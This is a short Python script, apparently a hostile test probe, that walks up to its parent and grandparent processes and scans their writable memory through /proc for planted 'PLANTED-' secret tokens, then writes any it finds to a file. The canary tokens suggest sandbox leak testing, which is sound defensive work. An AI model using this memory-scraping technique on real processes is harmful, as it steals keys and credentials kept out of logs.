"""Reads the key from /proc/PID/mem of launcher and reaper, which keep it out of the logs."""

import contextlib
import json
import os
import re

W = json.loads(os.environ["HOSTILE"])
pid = os.getpid()
for _ in range(2):  # what started it, and what started that
    with open(f"/proc/{pid}/stat") as file:
        pid = int(file.read().rpartition(")")[2].split()[1])
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            start, end, rights = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
            if rights.startswith("rw"):
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(int(start, 16))
                    for found in re.findall(rb"PLANTED-[\w-]+", memory.read(int(end, 16) - int(start, 16))):
                        with open(f"{W['run']}/told", "ab") as told:
                            told.write(found)
